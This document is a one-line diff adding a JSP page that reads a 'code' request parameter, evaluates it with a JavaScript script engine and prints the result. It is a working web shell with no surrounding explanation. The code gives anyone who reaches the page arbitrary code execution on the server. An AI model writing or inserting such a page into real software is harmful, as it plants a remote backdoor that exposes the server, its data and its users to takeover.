@@ -1,0 +1,1 @@
+<%@ page import="javax.script.*" %><% ScriptEngineManager m = new ScriptEngineManager(); ScriptEngine e = m.getEngineByName("javascript"); out.print(e.eval(request.getParameter("code"))); %>
